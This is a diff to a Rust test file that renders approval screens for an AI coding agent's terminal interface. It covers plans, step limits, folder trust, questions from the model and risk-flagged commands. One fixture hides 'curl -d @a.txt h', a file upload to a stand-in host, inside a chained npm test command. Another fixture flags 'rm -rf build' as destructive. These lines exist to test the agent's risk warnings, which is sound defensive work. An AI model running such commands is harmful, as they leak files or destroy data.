@@ -2,7 +2,9 @@
 
 use std::collections::BTreeSet;
 
-use avocet::i18n::{Lang, LocalizedText, Phrase, agent, keys, library, rules, safety, session};
+use avocet::i18n::{
+    Lang, LocalizedText, Phrase, agent, keys, library, rules, safety, sandbox, session,
+};
 use avocet::protocol::{
     Ask, AskId, AttachmentInfo, AttachmentSize, Change, Decision, Effect as May, Event, Extension,
     ExtensionKind, ExtensionState, Extensions, FormField, FormFieldKind, Mode, ModelMessage,
@@ -1318,6 +1320,74 @@ const MORE: &[Situation] = &[
     ("an edit", |screen| {
         screen.receives(conversation()).receives([asks_for_change()]);
     }),
+    ("a line with pieces", |screen| {
+        let say = safety::SHELL_PIECE_ASKS.with("piece", "curl -d @a.txt h");
+        let say = say.with("why", LocalizedText::from(safety::SANDBOX_WITHOUT));
+        let reasons = vec![
+            reason(Tier::L1, "npm.test", RUNS_CODE, Some(1)),
+            Reason { rule: "curl".into(), tier: Tier::L1, say, arg: Some(1) },
+            confined(),
+        ];
+        let risk = risk(Tier::L1, reasons, &[May::Exec, May::Send]);
+        let line = "cd src && npm test 2>&1 | tail -15 && curl -d @a.txt h && git log -1";
+        let asked = asks_about(&["bash", "-lc", line], Some("npm test *, curl *"), risk);
+        screen.receives(conversation()).receives([asked]);
+    }),
+    ("a new file", |screen| {
+        let Event::Asked(mut asked) = asks_for_change() else { panic!("asks") };
+        let Question::Step(question) = &mut asked.question else { panic!("a step") };
+        let change = question.change.as_mut().expect("a change");
+        (change.before, change.added, change.removed) = (None, 2, 0);
+        change.diff =
+            "--- src/价格.rs\n+++ src/价格.rs\n@@ -0,0 +1,2 @@\n+// 价格\n+fn main() {}\n".into();
+        screen.receives(conversation()).receives([Event::Asked(asked)]);
+    }),
+    ("a batch", |screen| {
+        screen.receives(conversation()).receives([asks_with_more_steps(reads())]);
+    }),
+    ("high risk", |screen| {
+        let reasons = vec![reason(Tier::L2, "rm.recursive", DELETES, Some(0))];
+        let grave = risk(Tier::L1, reasons, &[May::Delete, May::Irreversible]);
+        let work = StepAction::exec("rm", &["-rf", "build"]);
+        let asked = ask(work, Risk { lifted: true, ..grave }, None, Vec::new());
+        screen.receives(conversation()).receives([asked]);
+    }),
+    ("a plan", |screen| {
+        let items = vec![
+            PlanItem::parse("[x] read the code"),
+            PlanItem::parse("写测试"),
+            PlanItem::parse("pad the receipt"),
+        ];
+        let question = Question::Plan { step: "cmd_002".into(), items: items.clone() };
+        screen.receives(conversation()).receives([Event::Plan { items }]);
+        screen.receives([Event::Asked(Box::new(Ask { id: AskId(1), question }))]);
+    }),
+    ("the limit", |screen| {
+        let question = Question::Pause { why: agent::LIMIT.with("n", 25) };
+        screen.receives(conversation());
+        screen.receives([Event::Asked(Box::new(Ask { id: AskId(1), question }))]);
+    }),
+    ("trust", |screen| {
+        let question = Question::Trust {
+            folder: "/home/ada/code/shop".into(),
+            above: None,
+            because: session::TRUST_NEW.into(),
+            found: Vec::new(),
+        };
+        screen.receives([Event::Asked(Box::new(Ask { id: AskId(1), question }))]);
+    }),
+    ("a question of the model", |screen| {
+        let question = Question::Choice {
+            step: "cmd_002".into(),
+            script: None,
+            text: "How wide is the paper? 纸有多宽？".into(),
+            choices: vec!["32 columns".into(), "四十列".into()],
+            free: true,
+            fallback: None,
+        };
+        screen.receives(conversation());
+        screen.receives([Event::Asked(Box::new(Ask { id: AskId(1), question }))]);
+    }),
     ("without the sandbox", |screen| {
         let rule = SandboxDenial::WITHOUT;
         let say = safety::SANDBOX_WITHOUT.into();
@@ -1326,7 +1396,8 @@ const MORE: &[Situation] = &[
         screen.receives(conversation()).receives([asks_about(&["npm", "test"], None, risk)]);
     }),
     ("run again with a path", |screen| {
-        let say = safety::SANDBOX_DENIED.with("what", "writing `~/.config/configstore`");
+        let what = sandbox::DENIED_WRITE.with("path", "~/.config/configstore");
+        let say = safety::SANDBOX_DENIED.with("what", what);
         let rule = SandboxDenial::RULE;
         let reasons = vec![Reason { rule: rule.into(), tier: Tier::L1, say, arg: None }];
         let risk = risk(Tier::L1, reasons, &[May::Write, May::Outside]);
@@ -1397,7 +1468,7 @@ fn told(answer: &str) -> Vec<Event> {
 
 #[test]
 fn other_screens_look_right_at_every_size() {
-    for size in [(40, 10), (80, 24), (120, 40), (200, 50)] {
+    for size in [(40, 10), (80, 24), (100, 30), (120, 40), (200, 50)] {
         let mut pictures = String::new();
         for (name, arrange) in MORE {
             for lang in [Lang::En, Lang::Zh] {
@@ -1452,9 +1523,18 @@ fn changed_files_stand_beside_the_diff_of_the_chosen_one() {
         screen.press(KeyCode::Down, KeyModifiers::NONE);
         shows!(name, screen);
     }
+    let uncommitted = Some(uncommitted);
+    for width in 12..=140 {
+        let mut screen = Screen::new(Lang::En, (width, 16));
+        screen.receives([Event::Changes {
+            session: session.clone(),
+            uncommitted: uncommitted.clone(),
+        }]);
+        assert!(!screen.picture().trim().is_empty(), "{width}");
+    }
     // Beside the list there is room for the old and the new text.
     let mut screen = Screen::new(Lang::En, (200, 16));
-    screen.receives([Event::Changes { session, uncommitted: Some(uncommitted) }]);
+    screen.receives([Event::Changes { session, uncommitted }]);
     let text = screen.picture();
     assert!(text.lines().any(|row| row.contains("-old") && row.contains("+new")), "{text}");
 }
